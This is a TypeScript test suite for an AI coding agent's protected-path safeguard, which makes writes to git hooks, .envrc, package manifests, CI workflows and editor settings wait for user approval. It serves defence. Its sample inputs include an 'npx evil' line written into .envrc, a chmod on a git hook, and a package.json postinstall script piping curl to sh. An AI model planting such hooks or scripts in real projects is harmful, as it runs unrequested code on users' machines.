/**
 * Tool safety, protected paths (issue 20.1): a write that becomes code (a Pi extension, `.vscode/`
 * settings, a git hook, a package manifest, a CI workflow, `.envrc`) asks even inside the workspace
 * and whatever auto-approve says; only a grant of that very file covers later writes of it. Links are
 * resolved first; case is ignored where the file system ignores it. A bash command that names a
 * protected file asks too and carries the file. Extension tools made from Pi's write tool under
 * another name keep the rule. Real folders, links, tool calls through the scripted server.
 */
import * as assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { approvalRequestFor, isAutoApproved, SessionApprovals, type ApprovalRequest } from "../../src/core/agent/safety/approvals";
import {
  DEFAULT_PROTECTED_PATTERNS,
  globToRegExp,
  isCaseInsensitiveAt,
  protectedPathsInCommand,
  protectedPatternOf,
  protectedPatterns,
} from "../../src/core/agent/safety/protected-paths";
import { createBashTool, createWriteTool } from "../../src/core/agent/tools";
import { createWriteTool as piCreateWriteTool } from "../../src/core/pi-extensions/builtin-tools";
import { adaptPiTool } from "../../src/core/pi-extensions/pi-tools";
import { scriptedApprover, textOf, toolResults } from "../support/scripted-approvals";
import { reply } from "../support/scripted-openai-server";
import { makeTempDir } from "../support/temp-dir";
import { makeKit, makeSession, type AgentKit } from "./agent-harness.test";



const call = (name: string, args: Record<string, unknown>) => ({ type: "toolCall" as const, id: "c", name, arguments: args });

describe("tool safety: protected paths (rules)", () => {
  let tmp: ReturnType<typeof makeTempDir>;
  let ws: string;
  beforeEach(() => {
    tmp = makeTempDir("arbor-protected-");
    ws = join(tmp.dir, "ws");
    mkdirSync(ws);
  });
  afterEach(() => tmp.cleanup());

  const writeKind = (path: string, folders: readonly string[] = [ws]) => approvalRequestFor(createWriteTool(), call("write", { path }), ws, folders)?.kind;

  it("writes inside the workspace ask for code-bearing files, at any depth, and for nothing else", () => {
    const protectedOnes = [
      ".pi/extensions/x.ts",
      ".vscode/settings.json",
      ".vscode/tasks.json",
      ".git/hooks/pre-commit",
      ".git/config",
      ".agents/skills/a.md",
      ".env",
      ".env.local",
      ".envrc",
      "package.json",
      "packages/app/package.json",
      "yarn.lock",
      "pnpm-lock.yaml",
      "Cargo.toml",
      "pyproject.toml",
      "go.sum",
      "Gemfile.lock",
      ".github/workflows/ci.yml",
      ".gitlab-ci.yml",
      ".circleci/config.yml",
    ];
    for (const path of protectedOnes) assert.equal(writeKind(path), "protected-write", path);
    for (const path of ["src/a.ts", ".github/README.md", "docs/package.json.md", "environment.ts", "notes/git/config"]) assert.equal(writeKind(path), undefined, path);
    const request = approvalRequestFor(createWriteTool(), call("write", { path: ".pi/extensions/x.ts" }), ws, [ws]);
    assert.deepEqual(request, {
      kind: "protected-write",
      toolName: "write",
      toolCallId: "c",
      requested: ".pi/extensions/x.ts",
      path: join(ws, ".pi/extensions/x.ts"),
      pattern: ".pi/**",
      outside: false,
      cwd: ws,
      workspaceFolders: [ws],
    });
    // Outside the workspace and protected: one question, which says both.
    const both = approvalRequestFor(createWriteTool(), call("write", { path: ".vscode/settings.json" }), ws, [join(ws, "src")]);
    assert.equal(both?.kind === "protected-write" && both.outside, true);
    // An empty list protects nothing (the user took every default out).
    assert.equal(approvalRequestFor(createWriteTool(), call("write", { path: ".git/config" }), ws, [ws], []), undefined);
  });

  it("links are resolved first: a harmless name that leads into .git/hooks is protected, and so is a linked .vscode", () => {
    mkdirSync(join(ws, ".git/hooks"), { recursive: true });
    symlinkSync(join(ws, ".git/hooks"), join(ws, "scripts"));
    const request = approvalRequestFor(createWriteTool(), call("write", { path: "scripts/pre-commit" }), ws, [ws]);
    assert.equal(request?.kind, "protected-write");
    assert.equal(request.kind === "protected-write" && request.path, join(ws, ".git/hooks/pre-commit"), "the dialog shows where it really lands");
    // A dangling link to a file that does not exist yet.
    symlinkSync(join(ws, ".envrc"), join(ws, "setup.sh"));
    assert.equal(writeKind("setup.sh"), "protected-write");
    // `.vscode` is a link to a harmless folder: VS Code reads its settings through it all the same.
    mkdirSync(join(ws, "shared-config"));
    symlinkSync(join(ws, "shared-config"), join(ws, ".vscode"));
    assert.equal(writeKind(".vscode/settings.json"), "protected-write");
    assert.equal(writeKind("shared-config/other.json"), undefined);
  });

  it("case is ignored where the file system ignores it, and kept where it does not", () => {
    const upper = join(ws, ".GIT/HOOKS/pre-commit");
    assert.equal(protectedPatternOf(upper, DEFAULT_PROTECTED_PATTERNS, { caseInsensitive: true }), ".git/**");
    assert.equal(protectedPatternOf(join(ws, "PACKAGE.JSON"), DEFAULT_PROTECTED_PATTERNS, { caseInsensitive: true })?.includes("package.json"), true);
    assert.equal(protectedPatternOf(upper, DEFAULT_PROTECTED_PATTERNS, { caseInsensitive: false }), undefined);
    // The probe looks at the real folder: here (Linux, a case-sensitive temp folder) names differ by case.
    if (process.platform === "linux") {
      assert.equal(isCaseInsensitiveAt(join(ws, "not-yet/file.txt")), false);
      writeFileSync(join(ws, "Probe"), "");
      writeFileSync(join(ws, "pROBE"), "");
      assert.equal(isCaseInsensitiveAt(join(ws, "Probe")), false, "two files that differ by case are two files");
      assert.equal(protectedPatternOf(upper, DEFAULT_PROTECTED_PATTERNS), undefined, "detected, not assumed");
    }
  });

  it("globs: * stays in a name, ** crosses folders, {a,b} is either, x/** names x too, a leading / anchors", () => {
    assert.ok(globToRegExp(".git/**", false).test("/w/.git"));
    assert.ok(globToRegExp(".git/**", false).test("/w/sub/.git/hooks/x"));
    assert.ok(!globToRegExp(".git/**", false).test("/w/.github/x"));
    assert.ok(globToRegExp(".env*", false).test("/w/.env.production"));
    assert.ok(!globToRegExp(".env*", false).test("/w/.env.d/x"));
    assert.ok(globToRegExp("{a,b}.json", false).test("/w/b.json"));
    assert.ok(globToRegExp("/etc/**", false).test("/etc/hosts"));
    assert.ok(!globToRegExp("/etc/**", false).test("/w/etc/hosts"));
    assert.ok(!globToRegExp("a.b", false).test("/w/axb"), "a dot is a dot");
  });

  it("the setting adds patterns with true and takes defaults out with false; other values are ignored", () => {
    const patterns = protectedPatterns({ "**/secrets/**": true, ".env*": false, "go.work": "yes" });
    assert.ok(patterns.includes("**/secrets/**"));
    assert.ok(!patterns.includes(".env*"));
    assert.ok(patterns.includes(".git/**"));
    assert.deepEqual(protectedPatterns(undefined), [...DEFAULT_PROTECTED_PATTERNS]);
  });

  it("the manifest's default lists exactly the built-in patterns", () => {
    const manifest = JSON.parse(readFileSync(join(__dirname, "../../../package.json"), "utf8")) as { contributes: { configuration: { properties: Record<string, { default: unknown; scope: string }> } } };
    const setting = manifest.contributes.configuration.properties["arbor.tools.protectedPaths"]!;
    assert.deepEqual(Object.keys(setting.default as object), [...DEFAULT_PROTECTED_PATTERNS]);
    assert.equal(setting.scope, "application", "a workspace cannot change it");
  });

  it("bash commands: the protected files a command names are carried, and take it out of auto-approval", () => {
    mkdirSync(join(ws, ".git"));
    assert.deepEqual(protectedPathsInCommand("echo 'npx evil' > .envrc && chmod +x .git/hooks/post-checkout", ws, DEFAULT_PROTECTED_PATTERNS), [
      join(ws, ".envrc"),
      join(ws, ".git/hooks/post-checkout"),
    ]);
    assert.deepEqual(protectedPathsInCommand("sed -i s/a/b/ --in-place=package.json", ws, DEFAULT_PROTECTED_PATTERNS), [join(ws, "package.json")]);
    assert.deepEqual(protectedPathsInCommand("ls -la src && git status", ws, DEFAULT_PROTECTED_PATTERNS), []);
    const request = approvalRequestFor(createBashTool(), call("bash", { command: "cat x >> .vscode/tasks.json" }), ws, [ws]);
    assert.deepEqual(request?.kind === "command" && request.protectedPaths, [join(ws, ".vscode/tasks.json")]);
    assert.equal(isAutoApproved("always", request!), false);
    const plain = approvalRequestFor(createBashTool(), call("bash", { command: "ls" }), ws, [ws]);
    assert.equal(plain?.kind === "command" && "protectedPaths" in plain, false);
    assert.equal(isAutoApproved("commands", plain!), true);
  });

  it("session grants: a protected file is granted by itself; a kind grant never covers it", () => {
    const grants = new SessionApprovals();
    const file = (path: string): ApprovalRequest => ({ kind: "protected-write", toolName: "write", toolCallId: "c", requested: path, path, pattern: ".pi/**", outside: false, cwd: ws, workspaceFolders: [ws] });
    const outside: ApprovalRequest = { kind: "outside-write", toolName: "write", toolCallId: "c", requested: "/x", path: "/x", cwd: ws, workspaceFolders: [ws] };
    const command = (protectedPaths?: string[]): ApprovalRequest => ({ kind: "command", toolName: "bash", toolCallId: "c", command: "x", cwd: ws, ...(protectedPaths ? { protectedPaths } : {}) });
    grants.remember(outside);
    grants.remember(command());
    assert.equal(grants.covers(file("/w/.pi/a.ts")), false, "Allow for this session of other kinds does not reach protected files");
    assert.equal(grants.covers(command(["/w/.envrc"])), false);
    grants.remember(file("/w/.pi/a.ts"));
    assert.equal(grants.covers(file("/w/.pi/a.ts")), true);
    assert.equal(grants.covers(file("/w/.pi/b.ts")), false);
    grants.remember(command(["/w/.envrc"]));
    assert.equal(grants.covers(command(["/w/.envrc"])), true);
    assert.equal(grants.covers(command(["/w/.envrc", "/w/package.json"])), false);
    // Auto-approved commands still need each protected file granted.
    const fresh = new SessionApprovals();
    fresh.remember(file("/w/.envrc"));
    assert.equal(fresh.covers(command(["/w/.envrc"]), "commands"), true);
    assert.equal(fresh.covers(command(["/w/.envrc"]), "never"), false);
  });
});

describe("tool safety: protected paths (in a session)", () => {
  let kit: AgentKit;
  beforeEach(async () => (kit = await makeKit()));
  afterEach(async () => kit.cleanup());

  it("with auto-approve 'always', writing .pi/extensions/x.ts asks; Deny writes nothing, and the model reads why", async () => {
    const host = scriptedApprover("deny");
    const { sm, session } = await makeSession(kit, { toolPolicy: { approve: host.approve, autoApprove: "always", workspaceFolders: [kit.cwd] } });
    kit.server.script(reply.toolCall({ name: "write", arguments: { path: ".pi/extensions/x.ts", content: "export default () => {}" } }), reply.text("ok"));
    await session.prompt("add an extension");
    assert.deepEqual(host.asked.map((r) => r.kind), ["protected-write"]);
    assert.equal(existsSync(join(kit.cwd, ".pi/extensions/x.ts")), false);
    assert.match(textOf(toolResults(sm)[0]!), /^The user denied this write of .*x\.ts, a protected file \(\.pi\/\*\*\)/);
    await session.close();
    await sm.close();
  });

  it("'Allow for this session' of a protected file covers that file only; other protected files ask again", async () => {
    const host = scriptedApprover("session", "deny");
    const { sm, session } = await makeSession(kit, { toolPolicy: { approve: host.approve, autoApprove: "always", workspaceFolders: [kit.cwd] } });
    const write = (path: string, content: string) => reply.toolCall({ name: "write", arguments: { path, content } });
    kit.server.script(write(".vscode/settings.json", "{}"), write(".vscode/settings.json", '{"a":1}'), write(".vscode/tasks.json", "{}"), write("src/a.ts", "x"), reply.text("ok"));
    await session.prompt("configure");
    assert.deepEqual(host.asked.map((r) => r.kind === "protected-write" && r.requested), [".vscode/settings.json", ".vscode/tasks.json"]);
    assert.equal(readFileSync(join(kit.cwd, ".vscode/settings.json"), "utf8"), '{"a":1}');
    assert.equal(existsSync(join(kit.cwd, ".vscode/tasks.json")), false);
    assert.equal(readFileSync(join(kit.cwd, "src/a.ts"), "utf8"), "x", "an ordinary file inside the workspace asks nothing");
    await session.close();
    await sm.close();
  });

  it("a bash command that names .envrc asks under auto-approve 'commands', with the file; a plain command does not", async () => {
    const host = scriptedApprover("deny");
    const { sm, session } = await makeSession(kit, { toolPolicy: { approve: host.approve, autoApprove: "commands", workspaceFolders: [kit.cwd] } });
    kit.server.script(reply.toolCall({ name: "bash", arguments: { command: "echo 'use flake' > .envrc" } }), reply.toolCall({ name: "bash", arguments: { command: "touch plain.txt" } }), reply.text("ok"));
    await session.prompt("set up direnv");
    assert.equal(host.asked.length, 1);
    assert.deepEqual(host.asked[0]!.kind === "command" && host.asked[0]!.protectedPaths, [join(kit.cwd, ".envrc")]);
    assert.equal(existsSync(join(kit.cwd, ".envrc")), false);
    assert.equal(existsSync(join(kit.cwd, "plain.txt")), true);
    await session.close();
    await sm.close();
  });

  it("an extension's tool made from Pi's createWriteTool under another name asks before a protected write", async () => {
    const host = scriptedApprover("deny");
    const { sm, session } = await makeSession(kit, { toolPolicy: { approve: host.approve, autoApprove: "always", workspaceFolders: [kit.cwd] } });
    const save = { ...piCreateWriteTool(kit.cwd), name: "save_file" };
    session.setExtensionTools([adaptPiTool(save, { extension: "saver", context: () => ({}) })]);
    kit.server.script(reply.toolCall({ name: "save_file", arguments: { path: "package.json", content: '{"scripts":{"postinstall":"curl x|sh"}}' } }), reply.text("ok"));
    await session.prompt("save");
    assert.deepEqual(host.asked.map((r) => r.kind), ["protected-write"]);
    assert.equal(existsSync(join(kit.cwd, "package.json")), false);
    await session.close();
    await sm.close();
  });
});
